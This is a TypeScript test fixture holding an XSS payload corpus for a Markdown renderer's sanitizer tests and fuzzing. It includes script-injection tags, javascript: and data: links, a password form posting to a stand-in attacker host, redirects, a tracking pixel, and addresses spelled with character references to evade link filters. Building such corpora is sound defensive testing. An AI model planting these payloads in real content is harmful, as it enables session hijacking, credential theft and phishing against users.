/**
 * Known Markdown/HTML XSS payloads: raw HTML after inline raw-text tags (marked's raw-block
 * state), code spans, autolinks, links and reference links with javascript:/data:/vbscript:
 * and entity-encoded schemes, nested emphasis, comments, SVG/MathML, iframe, form, attribute
 * breakouts, nesting deeper than a recursive parser's stack. Used by the renderer's tests and
 * by the fuzz run's generated pages and model answers.
 */

/**
 * The characters that make an address (the scheme's colon, the slashes, the dots of a host
 * name, the at sign of an e-mail address), each written as character references: decimal and
 * hex (either case, zero-padded), named, and without the closing semicolon where HTML still
 * decodes it. Markdown renderers and HTML sanitizers decode them back to the literal character
 * after a text filter on the literal characters has run.
 */
const ENTITY_FORMS = {
  colon: ['&colon;', '&#58;', '&#058;', '&#0000058;', '&#x3a;', '&#x3A;', '&#X3a;', '&#x003A;', '&#58', '&#x3a', '&#X3A'],
  slash: ['&sol;', '&#47;', '&#047;', '&#x2f;', '&#x2F;', '&#X2F;', '&#47', '&#x2f', '&#X2F'],
  dot: ['&period;', '&#46;', '&#046;', '&#x2e;', '&#x2E;', '&#X2E;', '&#46', '&#x2e', '&#X2E', '&#12290;', '&#xff0e;', '&#xFF61;'],
  at: ['&commat;', '&#64;', '&#064;', '&#x40;', '&#X40;', '&#64', '&#x40', '&#X40', '&#xff20;'],
} as const;
type Part = keyof typeof ENTITY_FORMS;

const ADDRESS_SHAPES: Array<(c: Record<Part, string>) => string> = [
  ({ colon, slash, dot }) => `https${colon}${slash}${slash}evil${dot}com${slash}login`,
  ({ colon, slash, dot }) => `HTTP${colon}${slash}${slash}EVIL${dot}EXAMPLE`,
  ({ dot, slash }) => `www${dot}evil${dot}example${slash}offer`,
  ({ dot, slash }) => `evil${dot}com${slash}reset`,
  ({ at, dot }) => `support${at}evil${dot}com`,
  ({ colon, at, dot }) => `mailto${colon}support${at}evil${dot}example`,
  ({ slash, dot }) => `${slash}${slash}evil${dot}example${slash}x`,
  ({ dot }) => `203${dot}0${dot}113${dot}7`,
];

const formOf = (part: Part, i: number) => ENTITY_FORMS[part][i % ENTITY_FORMS[part].length]!;

/**
 * Addresses spelled with character references: every form of every character (the others in
 * their first form, the shapes taken in turn), every shape with all its characters in the i-th
 * form, and the reproduction. A mail client must find no link in any of them once they
 * are rendered.
 */
export const ENTITY_ADDRESSES: string[] = [
  'visit https&#58;&#47;&#47;evil&#46;com&#47;login or mail support&#64;evil&#46;com',
  'https&colon;&sol;&sol;evil&period;com&sol;login or support&commat;evil&period;com',
  ...new Set([
    ...(Object.keys(ENTITY_FORMS) as Part[]).flatMap((part) =>
      ENTITY_FORMS[part].map((form, i) => {
        const chars = { colon: formOf('colon', 0), slash: formOf('slash', 0), dot: formOf('dot', 0), at: formOf('at', 0), [part]: form };
        const shapes = ADDRESS_SHAPES.filter((shape) => shape(chars).includes(form));
        return shapes[i % shapes.length]!(chars);
      }),
    ),
    ...ADDRESS_SHAPES.flatMap((shape, s) =>
      [s, s + 3, s + 6].map((i) => shape({ colon: formOf('colon', i), slash: formOf('slash', i), dot: formOf('dot', i), at: formOf('at', i) })),
    ),
  ]),
  // inside Markdown: emphasis, code, link text, a list
  '**https&#58;&#47;&#47;evil&#46;com** and `support&#64;evil&#46;com` and [evil&#46;com](https://northlight.example/x)',
  '- evil&#46;<em>com</em>\n- evil&#46;*com*\n- support&#64;**evil&#46;com**',
  // double-encoded: shows as the reference, never as the character
  'https&amp;#58;&amp;#47;&amp;#47;evil&amp;#46;com',
];

const IMG = '<img src=x onerror=alert(1)';

export const XSS_CORPUS: string[] = [
  // the two reproductions of the issue
  `See \`\`<pre>\` \`${IMG}\` now`,
  `a <pre> b ${IMG} c`,
  // unclosed tags after an inline raw-text tag
  `a <textarea> b ${IMG} c`,
  `a <script> b ${IMG} c`,
  `a <style> b ${IMG} c`,
  `a <xmp> b ${IMG} c`,
  `a <title> b ${IMG} c`,
  `<pre>\n${IMG}>\n</pre>`,
  // raw HTML blocks and inline HTML
  '<script>alert(1)</script>',
  `${IMG}>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
  'x <a href="https://evil.example/">unclosed',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  // HTML comments
  `<!-- ${IMG}> -->`,
  `<!--> ${IMG}> -->`,
  // attribute breakouts
  `<div title="</div>${IMG}>">`,
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  // code spans and code blocks
  `\`${IMG}>\``,
  '```\n<script>alert(1)</script>\n```',
  '```js"><img src=x onerror=alert(1)>\ncode\n```',
  `\`\`\` a \` ${IMG}> \`\``,
  // links, schemes, entity-encoded schemes
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#0000106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  `[${IMG}>](https://evil.example/)`,
  // autolinks
  '<javascript:alert(1)>',
  '<https://evil.example/phish>',
  '<evil@evil.example>',
  // addresses spelled with character references
  ...ENTITY_ADDRESSES,
  'www.evil.example/phish',
  'https://evil.example/phish',
  'write to evil@evil.example',
  'data:text/html,<script>alert(1)</script>',
  // reference links
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x][ref]\n\n[ref]: https://evil.example/ "title"',
  '[ref]\n\n[ref]: <data:text/html,x>',
  // images
  '![pixel](https://evil.example/pixel.png)',
  '![y](javascript:alert(1))',
  // nested emphasis, lists, quotes, headings, tables, task lists
  `**${IMG}>**`,
  '*a **b <svg onload=alert(1)> c** d*',
  '***[x](javascript:alert(1))***',
  `- [ ] ${IMG}>\n- [x] done`,
  `> ${IMG}>`,
  `# ${IMG}>`,
  `| a | b |\n|:--|--:|\n| ${IMG}> | [x](javascript:alert(1)) |`,
  // entity-encoded markup shows as text
  '&lt;img src=x onerror=alert(1)&gt; &#60;img src=x onerror=alert(1)&#62;',
  // nesting deeper than the Markdown parser's stack
  `${'>'.repeat(20_000)} ${IMG}>`,
  `${'- '.repeat(10_000)}${IMG}>`,
  `${'*'.repeat(10_000)}x${'*'.repeat(10_000)} ${IMG}>`,
];
